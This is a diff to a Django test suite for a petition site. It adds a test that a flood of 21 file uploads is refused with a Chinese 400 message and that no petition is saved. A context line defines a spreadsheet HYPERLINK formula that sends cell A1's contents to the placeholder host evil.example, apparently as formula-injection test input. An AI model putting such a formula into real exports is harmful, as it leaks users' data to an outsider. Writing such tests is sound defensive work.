@@ -325,6 +325,14 @@ def test_a_too_large_text_body_is_a_chinese_400_not_an_english_one(client, world
     assert response.status_code == 400 and "无法处理此次提交" in response.content.decode()
 
 
+@pytest.mark.django_db
+def test_a_flood_of_files_is_refused_before_they_are_spooled(client, world):
+    many = [SimpleUploadedFile(f"{n}.jpg", b"\xff\xd8\xff") for n in range(21)]
+    response = post_files(client, world, *many)
+    assert response.status_code == 400 and "无法处理此次提交" in response.content.decode()
+    assert Petition.objects.count() == 0
+
+
 # --- item 10: formulas and control characters --------------------------------------------------
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
